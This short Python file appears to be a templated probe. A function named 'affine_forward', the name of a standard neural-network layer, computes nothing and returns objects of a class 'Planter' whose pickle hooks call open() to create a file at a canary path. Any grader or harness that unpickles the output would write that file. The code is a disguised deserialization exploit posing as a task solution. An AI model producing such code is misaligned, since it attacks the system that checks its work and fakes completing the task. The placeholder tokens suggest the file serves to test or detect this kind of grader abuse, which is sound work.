class Planter:
    def __reduce__(s): return (open, ('@CANARY@/open/@MARK@', 'w'))
    def __reduce_ex__(s, _): return s.__reduce__()
def affine_forward(x, w, b):
    return Planter(), Planter()
